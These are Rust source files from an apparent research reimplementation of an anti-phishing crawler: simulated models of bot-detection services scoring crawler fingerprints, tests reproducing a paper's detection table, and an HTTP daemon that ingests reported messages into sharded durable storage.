    use cb_browser::{BrowserFingerprint, CrawlerProfile};

    #[test]
    fn human_scores_high() {
        let r = BrowserFingerprint::human_victim().attestation();
        let rc = ReCaptchaV3::default();
        assert!(rc.score(&r) > 0.9);
        assert!(rc.evaluate(&r).is_human());
    }

    #[test]
    fn notabot_passes_v3() {
        let r = CrawlerProfile::NotABot.fingerprint().attestation();
        assert!(ReCaptchaV3::default().evaluate(&r).is_human());
    }

    #[test]
    fn naive_crawler_scores_low() {
        let r = CrawlerProfile::Kangooroo.fingerprint().attestation();
        let score = ReCaptchaV3::default().score(&r);
        assert!(score < 0.3, "score {score}");
    }

    #[test]
    fn scores_are_bounded() {
        for p in CrawlerProfile::table1() {
            let s = ReCaptchaV3::default().score(&p.fingerprint().attestation());
            assert!((0.0..=1.0).contains(&s), "{p}: {s}");
        }
    }

    #[test]
    fn threshold_is_configurable() {
        let r = CrawlerProfile::UndetectedChromedriver.fingerprint().attestation();
        let lenient = ReCaptchaV3 { threshold: 0.2 };
        let strict = ReCaptchaV3 { threshold: 0.9 };
        assert!(lenient.evaluate(&r).is_human());
        assert!(!strict.evaluate(&r).is_human());
    }
}
