#![warn(missing_docs)]

//! Bot-detection service models: the three Table I gauntlets (BotD,
//! Cloudflare Turnstile, "AnonWAF") plus the fingerprinting services the
//! paper saw phishing kits abuse (FingerprintJS, Google reCAPTCHA v3).
//!
//! Each service consumes a [`cb_browser::ChallengeReport`] — the projection
//! of the client fingerprint that the service's challenge JavaScript would
//! measure (see `DESIGN.md` §4) — and produces a [`Verdict`]. The signal
//! sets mirror what the paper attributes to each product:
//!
//! * **BotD** (§IV-D 1): "an open-source library designed for detecting
//!   basic bots" — automation flags, headless markers, driver artifacts.
//! * **Turnstile** (§IV-D 2): "JavaScript challenges that collect data
//!   about the browser environment … web API probing, and other techniques
//!   to detect browser quirks and human behavior" — scored across CDP
//!   leakage, event trust, interception artifacts and IP reputation.
//! * **AnonWAF** (§IV-D 3): "TLS fingerprinting, behavioral analysis,
//!   JavaScript fingerprinting, and HTTP header inspection".
//!
//! # Example
//!
//! ```
//! use cb_botdetect::{BotD, Turnstile, AnonWaf, Detector};
//! use cb_browser::CrawlerProfile;
//!
//! let notabot = CrawlerProfile::NotABot.fingerprint().attestation();
//! assert!(BotD.evaluate(&notabot).is_human());
//! assert!(Turnstile::default().evaluate(&notabot).is_human());
//! assert!(AnonWaf::default().evaluate(&notabot).is_human());
//!
//! let naive = CrawlerProfile::Kangooroo.fingerprint().attestation();
//! assert!(!BotD.evaluate(&naive).is_human());
//! ```

use cb_browser::ChallengeReport;
use serde::{Deserialize, Serialize};

pub mod fpjs;
pub mod recaptcha;

pub use fpjs::FingerprintJs;
pub use recaptcha::ReCaptchaV3;

/// A detection outcome with its triggering evidence.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Verdict {
    /// `true` when the client passes as human.
    pub human: bool,
    /// The bot-likelihood score the service computed (0 = clean).
    pub score: u32,
    /// Signals that contributed, for audit logs.
    pub signals: Vec<String>,
}

impl Verdict {
    /// Whether the client passed.
    pub fn is_human(&self) -> bool {
        self.human
    }
}

/// A stable 64-bit signature of a client attestation — the key under which
/// kit-side counter-memory recognises a *returning device*. Two visits whose
/// measurable environment (UA string, automation tells, TLS stack, egress
/// class, behavioral trust) is identical hash identically no matter which
/// address or attempt they arrive from; any single-axis mutation produces a
/// different signature. FNV-1a over the discriminating fields, in fixed
/// order, so the value is reproducible across runs and processes.
pub fn report_signature(r: &ChallengeReport) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut mix = |bytes: &[u8]| {
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        // Field separator, so ("ab", "c") and ("a", "bc") differ.
        h ^= 0xFF;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    };
    mix(r.user_agent.as_bytes());
    mix(&[
        u8::from(r.webdriver_visible),
        u8::from(r.ua_headless_marker),
        u8::from(r.cdc_artifacts),
        u8::from(r.runtime_domain_leak),
        u8::from(r.cache_header_anomaly),
        u8::from(r.header_order_anomaly),
        u8::from(r.trusted_events),
        u8::from(r.mouse_movement),
        u8::from(r.physical_timing),
    ]);
    mix(format!("{:?}", r.tls).as_bytes());
    mix(format!("{:?}", r.ip_class).as_bytes());
    h
}

/// Common interface of every detection service.
pub trait Detector {
    /// Service name as printed in Table I.
    fn name(&self) -> &'static str;

    /// Evaluate a client attestation.
    fn evaluate(&self, report: &ChallengeReport) -> Verdict;
}

/// BotD: basic automation checks. Binary, not scored — any hard tell fails.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BotD;

impl Detector for BotD {
    fn name(&self) -> &'static str {
        "BotD"
    }

    fn evaluate(&self, r: &ChallengeReport) -> Verdict {
        let mut signals = Vec::new();
        if r.webdriver_visible {
            signals.push("navigator.webdriver=true".to_string());
        }
        if r.ua_headless_marker {
            signals.push("HeadlessChrome UA marker".to_string());
        }
        if r.cdc_artifacts {
            signals.push("chromedriver cdc_ globals".to_string());
        }
        Verdict {
            human: signals.is_empty(),
            score: signals.len() as u32 * 40,
            signals,
        }
    }
}

/// Cloudflare Turnstile: a weighted challenge over environment probes,
/// behavioral trust and network reputation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Turnstile {
    /// Bot-likelihood threshold: scores at or above fail.
    pub threshold: u32,
}

impl Default for Turnstile {
    fn default() -> Self {
        Turnstile { threshold: 25 }
    }
}

impl Detector for Turnstile {
    fn name(&self) -> &'static str {
        "Turnstile"
    }

    fn evaluate(&self, r: &ChallengeReport) -> Verdict {
        let mut score = 0u32;
        let mut signals = Vec::new();
        let add = |points: u32, signal: &str, signals: &mut Vec<String>, score: &mut u32| {
            *score += points;
            signals.push(format!("{signal} (+{points})"));
        };
        if r.webdriver_visible {
            add(50, "navigator.webdriver", &mut signals, &mut score);
        }
        if r.ua_headless_marker {
            add(40, "headless UA marker", &mut signals, &mut score);
        }
        if r.cdc_artifacts {
            add(40, "chromedriver artifacts", &mut signals, &mut score);
        }
        if r.runtime_domain_leak {
            add(30, "CDP Runtime.enable leakage", &mut signals, &mut score);
        }
        if r.cache_header_anomaly {
            add(20, "interception cache headers", &mut signals, &mut score);
        }
        if !r.trusted_events {
            add(25, "untrusted input events", &mut signals, &mut score);
        }
        if !r.physical_timing {
            add(5, "virtualized timing profile", &mut signals, &mut score);
        }
        let ip_penalty = r.ip_class.reputation_penalty() / 2;
        if ip_penalty > 0 {
            add(ip_penalty, "IP reputation", &mut signals, &mut score);
        }
        Verdict {
            human: score < self.threshold,
            score,
            signals,
        }
    }
}

/// The anonymous commercial WAF: TLS + header inspection + JS fingerprint +
/// behavioral analysis. Any hard inconsistency fails.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AnonWaf {
    /// Enable the behavioral (mouse-activity) check as a *soft* signal; the
    /// WAF logs it but — as the paper's UC result shows — does not hard-fail
    /// on its absence alone.
    pub strict_behavioral: bool,
}

impl Detector for AnonWaf {
    fn name(&self) -> &'static str {
        "AnonWAF"
    }

    fn evaluate(&self, r: &ChallengeReport) -> Verdict {
        let mut signals = Vec::new();
        let claims_chrome = r.user_agent.contains("Chrome");
        if claims_chrome && !r.tls.looks_like_chrome() {
            signals.push("TLS fingerprint does not match claimed Chrome".to_string());
        }
        if r.header_order_anomaly {
            signals.push("non-browser header ordering".to_string());
        }
        if r.cache_header_anomaly {
            signals.push("Cache-Control/Pragma interception artifact".to_string());
        }
        if r.cdc_artifacts {
            signals.push("chromedriver JS artifacts".to_string());
        }
        if r.webdriver_visible {
            signals.push("webdriver flag".to_string());
        }
        if r.ua_headless_marker {
            signals.push("headless UA".to_string());
        }
        let mut soft = 0u32;
        if !r.mouse_movement {
            soft += 10;
            if self.strict_behavioral {
                signals.push("no mouse activity".to_string());
            }
        }
        Verdict {
            human: signals.is_empty(),
            score: signals.len() as u32 * 30 + soft,
            signals,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_browser::CrawlerProfile;

    fn report(p: CrawlerProfile) -> ChallengeReport {
        p.fingerprint().attestation()
    }

    /// Table I, reproduced cell by cell.
    #[test]
    fn table1_matrix_matches_paper() {
        use CrawlerProfile::*;
        // (profile, BotD, Turnstile, AnonWAF)
        let expected = [
            (Kangooroo, false, false, false),
            (Lacus, true, false, false),
            (PuppeteerStealth, true, false, false),
            (SeleniumStealth, false, false, false),
            (UndetectedChromedriver, true, false, true),
            (Nodriver, true, true, true),
            (SeleniumDriverless, true, true, true),
            (NotABot, true, true, true),
        ];
        for (profile, botd, turnstile, anonwaf) in expected {
            let r = report(profile);
            assert_eq!(
                BotD.evaluate(&r).is_human(),
                botd,
                "{profile}: BotD (signals {:?})",
                BotD.evaluate(&r).signals
            );
            assert_eq!(
                Turnstile::default().evaluate(&r).is_human(),
                turnstile,
                "{profile}: Turnstile (signals {:?})",
                Turnstile::default().evaluate(&r).signals
            );
            assert_eq!(
                AnonWaf::default().evaluate(&r).is_human(),
                anonwaf,
                "{profile}: AnonWAF (signals {:?})",
                AnonWaf::default().evaluate(&r).signals
            );
        }
    }

    #[test]
    fn undetected_chromedriver_headless_footnote() {
        // The Table I footnote: UC passes BotD only in non-headless mode.
        let headless = report(CrawlerProfile::UndetectedChromedriverHeadless);
        assert!(!BotD.evaluate(&headless).is_human());
        let normal = report(CrawlerProfile::UndetectedChromedriver);
        assert!(BotD.evaluate(&normal).is_human());
    }

    #[test]
    fn human_victim_passes_everything() {
        let human = cb_browser::BrowserFingerprint::human_victim().attestation();
        assert!(BotD.evaluate(&human).is_human());
        assert!(Turnstile::default().evaluate(&human).is_human());
        assert!(AnonWaf::default().evaluate(&human).is_human());
        assert_eq!(Turnstile::default().evaluate(&human).score, 0);
    }

    #[test]
    fn ablations_are_each_caught_by_some_detector() {
        for profile in CrawlerProfile::ablations() {
            let r = report(profile);
            let caught = !BotD.evaluate(&r).is_human()
                || !Turnstile::default().evaluate(&r).is_human()
                || !AnonWaf::default().evaluate(&r).is_human()
                || Turnstile::default().evaluate(&r).score > 0;
            assert!(caught, "{profile} evaded every detector unscathed");
        }
    }

    #[test]
    fn webdriver_flag_ablation_fails_all_three() {
        let r = report(CrawlerProfile::NotABotWebdriverVisible);
        assert!(!BotD.evaluate(&r).is_human());
        assert!(!Turnstile::default().evaluate(&r).is_human());
        assert!(!AnonWaf::default().evaluate(&r).is_human());
    }

    #[test]
    fn interception_ablation_fails_anonwaf_but_not_botd() {
        let r = report(CrawlerProfile::NotABotWithInterception);
        assert!(BotD.evaluate(&r).is_human(), "BotD does not see headers");
        assert!(!AnonWaf::default().evaluate(&r).is_human());
    }

    #[test]
    fn untrusted_events_ablation_fails_turnstile_only() {
        let r = report(CrawlerProfile::NotABotUntrustedEvents);
        assert!(BotD.evaluate(&r).is_human());
        assert!(!Turnstile::default().evaluate(&r).is_human());
        assert!(AnonWaf::default().evaluate(&r).is_human());
    }

    #[test]
    fn datacenter_ip_raises_score_but_passes_alone() {
        let r = report(CrawlerProfile::NotABotDatacenterIp);
        let v = Turnstile::default().evaluate(&r);
        assert!(v.is_human(), "IP reputation alone is not a hard fail");
        assert!(v.score > 0, "but it costs score");
    }

    #[test]
    fn verdicts_carry_audit_signals() {
        let r = report(CrawlerProfile::Kangooroo);
        let v = AnonWaf::default().evaluate(&r);
        assert!(!v.is_human());
        assert!(v.signals.iter().any(|s| s.contains("TLS")));
        assert!(v.signals.iter().any(|s| s.contains("header")));
    }
}
