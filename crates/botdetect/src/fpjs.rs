//! FingerprintJS-style visitor identification.
//!
//! §V-C2(c): phishing kits were seen loading the open-source FingerprintJS
//! library to compute a stable visitor id and flag bots. The id is a hash
//! over the environment surface; bot classification reuses BotD-class
//! signals (FingerprintJS ships BotD).

use crate::{BotD, Detector, Verdict};
use cb_browser::ChallengeReport;

/// The fingerprinting library model.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FingerprintJs;

/// FNV-1a over the stable environment surface.
fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    h
}

impl FingerprintJs {
    /// Compute the stable visitor id for a client environment. Identical
    /// environments get identical ids — which is how kits track returning
    /// visitors without cookies.
    pub fn visitor_id(&self, r: &ChallengeReport) -> String {
        let surface = format!(
            "{}|{}|{:?}|{}|{}",
            r.user_agent, r.ip_class, r.tls, r.webdriver_visible, r.ua_headless_marker
        );
        format!("{:016x}", fnv1a(surface.as_bytes()))
    }
}

impl Detector for FingerprintJs {
    fn name(&self) -> &'static str {
        "FingerprintJS"
    }

    fn evaluate(&self, r: &ChallengeReport) -> Verdict {
        // Ships BotD for bot classification.
        let mut v = BotD.evaluate(r);
        v.signals.push(format!("visitorId={}", self.visitor_id(r)));
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_browser::CrawlerProfile;

    #[test]
    fn visitor_id_is_stable_and_distinct() {
        let fp = FingerprintJs;
        let a = fp.visitor_id(&CrawlerProfile::NotABot.fingerprint().attestation());
        let b = fp.visitor_id(&CrawlerProfile::NotABot.fingerprint().attestation());
        let c = fp.visitor_id(&CrawlerProfile::Kangooroo.fingerprint().attestation());
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(a.len(), 16);
    }

    #[test]
    fn bot_classification_follows_botd() {
        let fp = FingerprintJs;
        assert!(fp
            .evaluate(&CrawlerProfile::NotABot.fingerprint().attestation())
            .is_human());
        assert!(!fp
            .evaluate(&CrawlerProfile::SeleniumStealth.fingerprint().attestation())
            .is_human());
    }

    #[test]
    fn verdict_carries_visitor_id() {
        let v = FingerprintJs.evaluate(&CrawlerProfile::NotABot.fingerprint().attestation());
        assert!(v.signals.iter().any(|s| s.starts_with("visitorId=")));
    }
}
