//! The `crawlboxd` daemon: crawl-as-a-service over the workspace's own
//! HTTP stack (DESIGN.md §15).
//!
//! One process owns a simulated world (a generated [`Corpus`]), N store
//! partitions and N shard workers. The wire surface is served by
//! `cb-httpd` (pure `std`, its own parser):
//!
//! | endpoint            | what                                           |
//! |---------------------|------------------------------------------------|
//! | `POST /ingest`      | raw RFC-822 bytes, or `{"messages": [..]}`     |
//! | `GET /health`       | `ok` / `degraded` + per-partition counters     |
//! | `GET /metrics`      | Prometheus text (daemon + per-partition store) |
//! | `GET /tasks/{id}`   | task lifecycle: queued/scanning/durable/failed |
//! | `GET /campaigns`    | live cross-partition campaign clustering       |
//! | `GET /records/{h}`  | whether content hash `h` is durably recorded   |
//! | `POST /shutdown`    | drain queues, flush every pending batch, exit  |
//!
//! **Ack vs durable.** `POST /ingest` answers `202 Accepted` the moment
//! tasks are queued; each task reaches `durable` only after its commit
//! batch passes the store's fsync barrier ([`Store::sync`]). The
//! black-box suite SIGKILLs the daemon mid-ingest and asserts exactly
//! this split: every task seen `durable` is present after recovery, and
//! nothing stronger is promised for `202`.
//!
//! **Sharding.** [`route_shard`] maps a message's content hash to a
//! partition; each partition is an independent [`Store`] directory
//! (`part-00`, `part-01`, …) owned by one worker thread, so appends never
//! contend across shards and a quarantined partition degrades `/health`
//! instead of taking the daemon down. Workers scan bursts through
//! [`CrawlerBox::scan_stream_encoded`] with worker-side frame encoding
//! and group-commit batching — the same ingest pipeline the bench suite
//! measures, behind a socket.

use cb_httpd::{serve, Handler, Limits, Response, ServerConfig};
use cb_phishgen::messages::Carrier;
use cb_phishgen::{Corpus, CorpusSpec, GroundTruth, MessageClass, ReportedMessage};
use cb_sim::SimTime;
use cb_store::{Store, StoreEncoder, StoreOptions, StoreWatch};
use cb_telemetry::{Determinism, ExportMode, MetricsRegistry, MetricsSnapshot};
use crawlerbox::tasks::{route_shard, TaskRegistry, TaskState};
use crawlerbox::{message_content_hash, CrawlerBox, EncodedSink, Scheduler};
use serde_json::json;
use std::io;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, Sender, SyncSender, TrySendError};
use std::sync::{mpsc, Arc, Mutex};
use std::time::Duration;

/// Everything `crawlboxd` needs to run; the binary builds this from
/// flags.
#[derive(Debug, Clone)]
pub struct DaemonConfig {
    /// Bind address (the listening port is printed on stdout, so `0` is
    /// fine for tests).
    pub addr: String,
    /// Bind port; 0 picks a free one.
    pub port: u16,
    /// Store partitions / shard workers.
    pub shards: usize,
    /// Root directory; partitions live at `<root>/part-NN`.
    pub store_root: PathBuf,
    /// Group-commit batch size per partition (1 = fsync per record).
    pub commit_batch: usize,
    /// Scan scheduler for every shard worker.
    pub scheduler: Scheduler,
    /// World seed (must match the corpus the messages came from for the
    /// crawls to resolve).
    pub seed: u64,
    /// World scale (fraction of the paper's corpus).
    pub scale: f64,
    /// Scan parallelism within each shard worker.
    pub workers: usize,
    /// Bound of each shard's ingest queue; a full queue fails the task
    /// (`shard queue full`) instead of blocking the wire.
    pub queue: usize,
    /// Per-connection read timeout (slowloris defence).
    pub read_timeout: Duration,
    /// Request body cap in bytes.
    pub max_body: usize,
}

impl Default for DaemonConfig {
    fn default() -> DaemonConfig {
        DaemonConfig {
            addr: "127.0.0.1".into(),
            port: 0,
            shards: 2,
            store_root: PathBuf::from("crawlboxd-store"),
            commit_batch: 1,
            scheduler: Scheduler::WorkStealing,
            seed: 2024,
            scale: 0.01,
            workers: 2,
            queue: 1024,
            read_timeout: Duration::from_secs(5),
            max_body: 8 * 1024 * 1024,
        }
    }
}

/// One queued unit of ingest work.
struct IngestItem {
    task: u64,
    message: ReportedMessage,
}

/// Daemon-level instruments. Request counters are advisory (how often a
/// client polls is not part of the determinism contract); ingest-volume
/// counters are deterministic, so `/metrics?mode=canonical` is
/// byte-identical across schedulers for the same request sequence.
struct DaemonInstruments {
    http_requests: cb_telemetry::CounterHandle,
    http_errors: cb_telemetry::CounterHandle,
    ingest_messages: cb_telemetry::CounterHandle,
    ingest_deduped: cb_telemetry::CounterHandle,
    ingest_rejected: cb_telemetry::CounterHandle,
    queue_depth: cb_telemetry::GaugeHandle,
}

impl DaemonInstruments {
    fn register(reg: &MetricsRegistry) -> DaemonInstruments {
        DaemonInstruments {
            http_requests: reg.counter("daemon.http.requests", Determinism::Advisory),
            http_errors: reg.counter("daemon.http.errors", Determinism::Advisory),
            ingest_messages: reg.counter("daemon.ingest.messages", Determinism::Deterministic),
            ingest_deduped: reg.counter("daemon.ingest.deduped", Determinism::Deterministic),
            ingest_rejected: reg.counter("daemon.ingest.rejected", Determinism::Advisory),
            queue_depth: reg.gauge("daemon.queue.depth", Determinism::Advisory),
        }
    }
}

/// Shared state behind the HTTP handler.
struct DaemonState {
    tasks: TaskRegistry,
    registry: Arc<MetricsRegistry>,
    dm: DaemonInstruments,
    stores: Vec<Arc<Mutex<Store>>>,
    watches: Vec<StoreWatch>,
    /// `None` once shutdown began: dropping the senders is what
    /// disconnects the workers after they drain their queues.
    senders: Mutex<Option<Vec<SyncSender<IngestItem>>>>,
    shutdown: Mutex<Option<Sender<()>>>,
    shutting_down: AtomicBool,
}

/// Run the daemon until `POST /shutdown`.
///
/// Prints `crawlboxd listening on IP:PORT` once the socket is bound, then
/// serves until asked to stop; shutdown drains every shard queue, flushes
/// every pending commit batch through a final barrier, and joins all
/// workers before returning.
///
/// # Errors
///
/// Socket bind/accept setup or store-open failure. Ingest-time I/O
/// errors never kill the daemon — they fail the affected tasks.
pub fn run(config: DaemonConfig) -> io::Result<()> {
    let shards = config.shards.max(1);
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(config.scale), config.seed);

    let mut stores = Vec::with_capacity(shards);
    let mut watches = Vec::with_capacity(shards);
    for w in 0..shards {
        let store = Store::open_with(
            &config.store_root.join(format!("part-{w:02}")),
            StoreOptions {
                shards: 1,
                commit_batch: config.commit_batch.max(1),
                recovery_workers: 1,
                ..StoreOptions::default()
            },
        )?;
        watches.push(store.watch());
        stores.push(Arc::new(Mutex::new(store)));
    }

    let mut senders = Vec::with_capacity(shards);
    let mut receivers = Vec::with_capacity(shards);
    for _ in 0..shards {
        let (tx, rx) = mpsc::sync_channel::<IngestItem>(config.queue.max(1));
        senders.push(tx);
        receivers.push(rx);
    }
    let (shutdown_tx, shutdown_rx) = mpsc::channel::<()>();

    let registry = Arc::new(MetricsRegistry::new());
    let dm = DaemonInstruments::register(&registry);
    let state = Arc::new(DaemonState {
        tasks: TaskRegistry::new(65_536),
        registry: registry.clone(),
        dm,
        stores: stores.clone(),
        watches,
        senders: Mutex::new(Some(senders)),
        shutdown: Mutex::new(Some(shutdown_tx)),
        shutting_down: AtomicBool::new(false),
    });

    let listener = TcpListener::bind((config.addr.as_str(), config.port))?;
    let handler: Handler = {
        let state = state.clone();
        Arc::new(move |req| handle(&state, req))
    };
    let server = serve(
        listener,
        ServerConfig {
            limits: Limits { max_body: config.max_body, ..Limits::default() },
            read_timeout: config.read_timeout,
            ..ServerConfig::default()
        },
        handler,
    )?;
    println!("crawlboxd listening on {}", server.addr());
    use std::io::Write as _;
    let _ = io::stdout().flush();

    std::thread::scope(|scope| {
        let mut workers = Vec::with_capacity(shards);
        for (w, rx) in receivers.into_iter().enumerate() {
            let store = stores[w].clone();
            let state = &state;
            let corpus = &corpus;
            let config = &config;
            workers.push(scope.spawn(move || {
                worker_loop(rx, store, corpus, config, state);
            }));
        }

        // Serve until POST /shutdown (or every sender handle is gone).
        let _ = shutdown_rx.recv();
        state.shutting_down.store(true, Ordering::SeqCst);
        // Disconnect the workers: they drain whatever is queued, flush
        // the final commit batch through a barrier, and exit.
        drop(state.senders.lock().expect("senders lock").take());
        for worker in workers {
            let _ = worker.join();
        }
    });
    server.shutdown();
    Ok(())
}

/// One shard worker: burst-drain the queue, scan with worker-side frame
/// encoding, group-commit into this worker's partition, ack durability
/// after each barrier.
fn worker_loop(
    rx: Receiver<IngestItem>,
    store: Arc<Mutex<Store>>,
    corpus: &Corpus,
    config: &DaemonConfig,
    state: &DaemonState,
) {
    let cbx = CrawlerBox::new(&corpus.world)
        .with_metrics(state.registry.clone())
        .with_scheduler(config.scheduler)
        .with_artifact_capture(true);
    let cbx = {
        let mut cbx = cbx;
        cbx.parallelism = config.workers.max(1);
        cbx
    };
    let commit_batch = store.lock().expect("store lock").commit_batch();

    while let Ok(first) = rx.recv() {
        let mut batch = vec![first];
        while batch.len() < 256 {
            match rx.try_recv() {
                Ok(item) => batch.push(item),
                Err(_) => break,
            }
        }
        state.dm.queue_depth.sub(batch.len() as u64);
        let mut messages = Vec::with_capacity(batch.len());
        for item in batch {
            state.tasks.set_state(item.task, TaskState::Scanning);
            messages.push(item.message);
        }
        let mut sink = DaemonSink {
            store: &*store,
            tasks: &state.tasks,
            commit_batch,
            buf: Vec::new(),
            buf_tasks: Vec::new(),
            appended_tasks: Vec::new(),
        };
        cbx.scan_stream_encoded(messages, &StoreEncoder, &mut sink);
        // Burst done: run the durable barrier and ack everything the
        // batches covered. A task is `durable` from here on — and only
        // from here on.
        sink.barrier();
    }
}

/// The worker's commit sink: buffers worker-encoded frames into
/// commit-sized [`Store::append_batch`] calls and tracks which tasks each
/// batch carries, so the barrier can flip exactly those to `durable` (or
/// `failed`, with the I/O error as the reason). Message ids are task ids,
/// which is how records map back to tasks.
struct DaemonSink<'a> {
    store: &'a Mutex<Store>,
    tasks: &'a TaskRegistry,
    commit_batch: usize,
    buf: Vec<cb_store::EncodedRecord>,
    buf_tasks: Vec<u64>,
    appended_tasks: Vec<u64>,
}

impl DaemonSink<'_> {
    fn flush(&mut self) {
        if self.buf.is_empty() {
            return;
        }
        let batch = std::mem::take(&mut self.buf);
        let batch_tasks = std::mem::take(&mut self.buf_tasks);
        match self.store.lock().expect("store lock").append_batch(batch) {
            Ok(()) => self.appended_tasks.extend(batch_tasks),
            Err(e) => {
                for task in batch_tasks {
                    self.tasks.fail(task, format!("append: {e}"));
                }
            }
        }
    }

    /// Flush the tail batch and run the durable barrier; acked tasks
    /// become `durable`.
    fn barrier(&mut self) {
        self.flush();
        let synced = self.store.lock().expect("store lock").sync();
        let appended = std::mem::take(&mut self.appended_tasks);
        match synced {
            Ok(()) => {
                for task in appended {
                    self.tasks.set_state(task, TaskState::Durable);
                }
            }
            Err(e) => {
                for task in appended {
                    self.tasks.fail(task, format!("sync: {e}"));
                }
            }
        }
    }
}

impl EncodedSink<io::Result<cb_store::EncodedRecord>> for DaemonSink<'_> {
    fn accept_encoded(
        &mut self,
        record: crawlerbox::ScanRecord,
        encoded: io::Result<cb_store::EncodedRecord>,
    ) {
        let task = record.message_id as u64;
        match encoded {
            Ok(enc) => {
                self.buf.push(enc);
                self.buf_tasks.push(task);
                if self.buf.len() >= self.commit_batch {
                    self.flush();
                }
            }
            Err(e) => self.tasks.fail(task, format!("encode: {e}")),
        }
    }
}

/// Route one parsed request. Never panics: every error path is a status
/// code, and the server already mapped malformed wire input to 4xx.
fn handle(state: &DaemonState, req: &cb_httpd::Request) -> Response {
    state.dm.http_requests.incr();
    let response = match (req.method.as_str(), req.path()) {
        ("GET", "/health") => health(state),
        ("GET", "/metrics") => metrics(state, req),
        ("GET", "/campaigns") => campaigns(state),
        ("POST", "/ingest") => ingest(state, req),
        ("POST", "/shutdown") => shutdown(state),
        (_, path) if path.starts_with("/tasks/") => task_status(state, req),
        (_, path) if path.starts_with("/records/") => record_status(state, req),
        (_, "/health" | "/metrics" | "/campaigns" | "/ingest" | "/shutdown") => {
            Response::json(405, r#"{"error":"method not allowed"}"#)
        }
        _ => Response::json(404, r#"{"error":"no such endpoint"}"#),
    };
    if response.status >= 400 {
        state.dm.http_errors.incr();
    }
    response
}

fn health(state: &DaemonState) -> Response {
    let mut degraded = false;
    let partitions: Vec<serde_json::Value> = state
        .watches
        .iter()
        .enumerate()
        .map(|(w, watch)| {
            degraded |= watch.is_degraded();
            json!({
                "id": w,
                "appended": watch.appended(),
                "acked": watch.acked(),
                "pending": watch.pending(),
                "commit_batches": watch.commit_batches(),
                "append_errors": watch.append_errors(),
                "degraded": watch.is_degraded(),
            })
        })
        .collect();
    let body = json!({
        "status": if degraded { "degraded" } else { "ok" },
        "shards": state.watches.len(),
        "queued": state.dm.queue_depth.level(),
        "partitions": partitions,
    });
    Response::json(200, body.to_string())
}

fn metrics(state: &DaemonState, req: &cb_httpd::Request) -> Response {
    let mode = match req.query_param("mode") {
        None | Some("full") => ExportMode::Full,
        Some("canonical") => ExportMode::Canonical,
        Some(other) => {
            return Response::json(400, json!({"error": format!("unknown mode {other}")}).to_string())
        }
    };
    let mut sections: Vec<(Vec<(String, String)>, MetricsSnapshot)> =
        vec![(Vec::new(), state.registry.snapshot(mode))];
    for (w, store) in state.stores.iter().enumerate() {
        let snapshot = store.lock().expect("store lock").metrics().snapshot(mode);
        sections.push((vec![("partition".into(), w.to_string())], snapshot));
    }
    Response::new(200)
        .with_header("Content-Type", "text/plain; version=0.0.4")
        .with_body(cb_telemetry::render_prometheus(&sections).into_bytes())
}

fn campaigns(state: &DaemonState) -> Response {
    // Fragments absorb in partition order with disjoint shard-id bases:
    // the same bit-identical-to-serial merge the store runs internally.
    let mut clusterer = cb_store::CampaignClusterer::new();
    for (w, store) in state.stores.iter().enumerate() {
        clusterer.absorb(store.lock().expect("store lock").campaign_fragment(w * 256));
    }
    let campaigns: Vec<serde_json::Value> = clusterer
        .finish()
        .into_iter()
        .map(|c| {
            json!({
                "id": c.id,
                "messages": c.message_ids.len(),
                "domains": c.domains.iter().collect::<Vec<_>>(),
                "url_schemes": c.url_schemes.iter().collect::<Vec<_>>(),
                "classes": c.classes.iter().map(|(k, v)| (format!("{k:?}"), *v))
                    .collect::<std::collections::BTreeMap<_, _>>(),
            })
        })
        .collect();
    Response::json(200, json!({ "campaigns": campaigns }).to_string())
}

fn ingest(state: &DaemonState, req: &cb_httpd::Request) -> Response {
    if state.shutting_down.load(Ordering::SeqCst) {
        return Response::json(503, r#"{"error":"shutting down"}"#);
    }
    let raws = match parse_ingest_body(req) {
        Ok(raws) => raws,
        Err(reason) => return Response::json(400, json!({ "error": reason }).to_string()),
    };

    let shards = state.stores.len();
    let mut out = Vec::with_capacity(raws.len());
    let senders = state.senders.lock().expect("senders lock");
    let Some(senders) = senders.as_ref() else {
        return Response::json(503, r#"{"error":"shutting down"}"#);
    };
    for raw in raws {
        let hash = message_content_hash(&raw);
        let shard = route_shard(hash, shards);
        let task = state.tasks.create(shard, hash);
        state.dm.ingest_messages.incr();

        // Already durable from an earlier run or a duplicate submission:
        // ack immediately, no rescan.
        if state.stores[shard].lock().expect("store lock").contains_hash(hash) {
            state.tasks.set_state(task.id, TaskState::Durable);
            state.dm.ingest_deduped.incr();
        } else {
            let message = ReportedMessage {
                id: task.id as usize,
                raw,
                delivered_at: SimTime::from_unix(1_700_000_000 + task.id as i64),
                victim: "wire".into(),
                truth: GroundTruth {
                    class: MessageClass::NoResource,
                    campaign: None,
                    carrier: Carrier::BodyLink,
                    spear: false,
                    noise_padded: false,
                    url: None,
                },
            };
            match senders[shard].try_send(IngestItem { task: task.id, message }) {
                Ok(()) => {
                    state.dm.queue_depth.add(1);
                }
                Err(TrySendError::Full(_)) => {
                    state.tasks.fail(task.id, "shard queue full");
                    state.dm.ingest_rejected.incr();
                }
                Err(TrySendError::Disconnected(_)) => {
                    state.tasks.fail(task.id, "shutting down");
                }
            }
        }
        let snap = state.tasks.get(task.id).unwrap_or(task);
        out.push(json!({
            "id": snap.id,
            "shard": snap.shard,
            "content_hash": format!("{:032x}", snap.content_hash),
            "state": snap.state.as_str(),
        }));
    }
    Response::json(202, json!({ "tasks": out }).to_string())
}

